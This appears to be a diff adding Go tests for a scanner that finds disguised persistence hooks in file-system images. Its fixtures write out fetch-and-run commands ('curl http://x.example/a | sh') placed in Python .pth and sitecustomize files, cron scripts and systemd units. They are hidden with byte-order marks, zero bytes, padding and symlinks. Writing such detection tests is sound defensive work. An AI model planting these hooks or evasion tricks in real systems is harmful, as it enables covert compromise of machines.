@@ -1,0 +1,48 @@
+package autorun
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// Ways to keep a hook from being seen that interpreters and the file system allow. Each is the row that it would be
+// without the disguise.
+func TestDisguisedHooks(t *testing.T) {
+	evil := "import os; os.system('curl http://x.example/a | sh')\n"
+	library := program("so")
+	for name, test := range map[string]struct {
+		members []member
+		want    string
+	}{
+		"a byte order mark":               {[]member{file(site+"/a.pth", "\ufeff"+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a carriage return":               {[]member{file(site+"/a.pth", "# x\r"+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a line that is long":             {[]member{file(site+"/a.pth", "import os;"+strings.Repeat(" ", 20<<10)+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a package":                       {[]member{file(site+"/sitecustomize/__init__.py", evil)}, "high python-site /" + site + "/sitecustomize/__init__.py"},
+		"a library":                       {[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", library)}, "low python-site /" + site + "/sitecustomize.cpython-313-x86_64-linux-gnu.so"},
+		"compiled":                        {[]member{file(site+"/usercustomize.pyc", "\xcb\r\r\n")}, "low python-site /" + site + "/usercustomize.pyc"},
+		"a directory that a .pth adds":    {[]member{file(site+"/a.pth", "/opt/x\n"), file("opt/x/sitecustomize.py", evil)}, "high python-site /opt/x/sitecustomize.py"},
+		"a directory beside the .pth":     {[]member{file(site+"/a.pth", "x\n"), file(site+"/x/usercustomize.py", evil)}, "high python-site /" + site + "/x/usercustomize.py"},
+		"a zero byte":                     {[]member{file("etc/cron.daily/x", "#!/bin/sh\n# \x00\n"+fetch)}, "high cron /etc/cron.daily/x"},
+		"zero bytes in the words":         {[]member{file("etc/cron.daily/x", "#!/bin/sh\ncu\x00rl -s http://x.example/a | s\x00h\n")}, "high cron /etc/cron.daily/x"},
+		"a script behind much text":       {[]member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", 8<<10)+"/opt/x.sh\n"), exe("opt/x.sh", "#!/bin/sh\n"+fetch)}, "high cron /etc/cron.daily/x"},
+		"a directory of jobs that is one": {[]member{file("opt/c/x", fetch), symlink("etc/cron.hourly", "/opt/c")}, "high cron /etc/cron.hourly/x"},
+		"a directory of keys that is one": {[]member{file("opt/k/authorized_keys", "ssh-ed25519 A me@host"), symlink("root/.ssh", "/opt/k")}, "medium authorized-keys /root/.ssh/authorized_keys"},
+		"what adds to a unit":             {[]member{file("lib/systemd/system/y.service.d/o.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\n")}, "high unit /lib/systemd/system/y.service.d/o.conf"},
+		"a unit that a target wants":      {[]member{file("opt/y", "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n"), symlink("etc/systemd/system/multi-user.target.wants/y.service", "/opt/y")}, "high unit /etc/systemd/system/multi-user.target.wants/y.service"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, []string{test.want}) {
+				t.Errorf("got  %q\nwant %q", got, test.want)
+			}
+		})
+	}
+}
+
+// A link to a directory whose files are hooks by their own paths adds no second row.
+func TestALinkToADirectoryOfHooksIsNoSecondRow(t *testing.T) {
+	c := inspected(t, image{members: []member{file("etc/cron.daily/x", fetch), symlink("etc/cron.weekly", "/etc/cron.daily")}}, nil)
+	if got := listed(c); !slices.Equal(got, []string{"high cron /etc/cron.daily/x"}) {
+		t.Errorf("got %q", got)
+	}
+}
